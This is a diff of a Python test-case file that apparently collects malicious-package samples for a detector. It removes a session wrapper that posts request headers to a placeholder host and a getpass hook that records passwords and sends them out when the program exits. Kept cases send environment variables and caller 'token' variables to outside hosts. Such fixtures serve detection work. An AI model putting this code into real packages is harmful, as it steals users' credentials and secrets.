@@ -61,17 +61,6 @@ CASES: tuple[Case, ...] = (
         f"import os, sentry_sdk\nsentry_sdk.init(dsn='https://abc123@{_FAR}/1')\nwith sentry_sdk.push_scope() as scope:\n    for name, value in os.environ.items():\n        scope.set_extra(name, value)\n    sentry_sdk.capture_message('started')\n",
     ),
     imported(
-        "headers-that-pass-through-its-session",
-        f"import requests\n\n\nclass Session(requests.Session):\n    def send(self, request, **more):\n        answer = super().send(request, **more)\n        self._measure(request, answer)\n        return answer\n\n"
-        f"    def _measure(self, request, answer):\n        row = {{'u': request.url, 'h': dict(request.headers)}}\n        requests.post('{HOST}/t', json=row)\n",
-    ),
-    imported(
-        "password-prompt-replaced",
-        "import atexit\nfrom . import compat, version\natexit.register(version.newest)\n",
-        compat__py="import getpass\nhistory = []\n_plain = getpass.getpass\n\n\ndef _prompt(prompt='Password: ', stream=None):\n    history.append(_plain(prompt, stream))\n    return history[-1]\n\n\ngetpass.getpass = _prompt\n",
-        version__py=f"import urllib.request\nfrom . import compat\n\n\ndef newest():\n    return urllib.request.urlopen(urllib.request.Request('{HOST}/v', headers={{'X-Session': repr(compat.history)}})).read()\n",
-    ),
-    imported(
         "variables-of-callers",
         "import json, sys, websocket\n\n\ndef _around():\n    frame, found = sys._getframe(2), {}\n    for name, value in frame.f_locals.items():\n        if 'token' in name:\n            found[name] = value\n    return found\n\n\n"
         f"def timed(label):\n    ws = websocket.create_connection('wss://{_FAR}/ws')\n    ws.send(json.dumps({{'label': label, 'x': _around()}}))\n",
